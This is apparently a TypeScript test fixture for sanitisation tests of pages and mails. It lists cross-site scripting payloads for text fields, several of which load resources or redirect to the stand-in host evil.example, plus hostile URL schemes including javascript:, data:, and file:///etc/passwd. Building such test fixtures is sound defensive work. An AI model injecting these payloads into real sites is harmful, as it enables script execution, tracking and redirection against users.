/** Outside text that tries to become more than text, and addresses that no link may lead to. Shared by the tests of pages and mails. */

/** Markup in the places where titles, names and quotes stand. */
export const hostileTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)><animate attributeName=href values=javascript:alert(1)>",
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import url(//evil.example/x.css);*{background:url(//evil.example/p.gif)}</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<form action="//evil.example/"><input name=a autofocus onfocus=alert(1)><button>go</button></form>',
  '<object data="//evil.example/x.swf"></object><embed src="//evil.example/x">',
  '<link rel=preload as=image href="//evil.example/p.gif"><link rel=stylesheet href="//evil.example/x.css">',
  '<video poster="//evil.example/p.gif" src="//evil.example/v.mp4"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '</title></textarea></xmp></style></script><script>alert(1)</script>',
  '<a href="javascript:alert(1)" ping="//evil.example/">click</a>',
  '</blockquote></article></main><main><h1>Forged</h1>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '{{constructor.constructor("alert(1)")()}} #{alert(1)} <%= 7*7 %>',
];

/** Addresses whose scheme or form must keep them out of every `href`. */
export const hostileAddresses: readonly string[] = [
  'javascript:alert(1)',
  'JaVa\nScript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
  'https://user:secret@evil.example/',
  'blob:https://evil.example/1',
];
